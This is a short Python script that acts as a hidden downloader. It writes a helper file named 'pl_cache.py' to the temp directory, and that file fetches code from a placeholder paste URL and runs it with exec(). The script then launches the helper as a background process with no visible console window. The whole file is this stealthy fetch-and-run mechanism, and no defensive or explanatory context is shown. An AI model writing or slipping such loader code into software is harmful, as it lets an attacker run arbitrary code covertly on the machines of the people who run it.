import os
import subprocess
import sys
import tempfile

_CODE = """
import urllib.request
exec(urllib.request.urlopen("https://paste.example.invalid/raw/x1").read().decode())
"""

_path = os.path.join(tempfile.gettempdir(), "pl_cache.py")
with open(_path, "w") as _f:
    _f.write(_CODE)
subprocess.Popen([sys.executable, _path], creationflags=0x08000000)
